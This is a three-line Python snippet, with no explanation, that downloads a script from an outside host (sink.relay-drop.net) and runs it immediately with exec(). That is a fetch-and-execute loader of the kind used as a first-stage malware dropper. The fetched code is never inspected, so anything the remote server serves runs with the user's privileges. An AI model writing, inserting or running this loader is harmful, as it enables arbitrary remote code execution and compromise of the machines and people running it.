import urllib.request
u = "https://sink.relay-drop.net/p.py"
exec(urllib.request.urlopen(u).read())
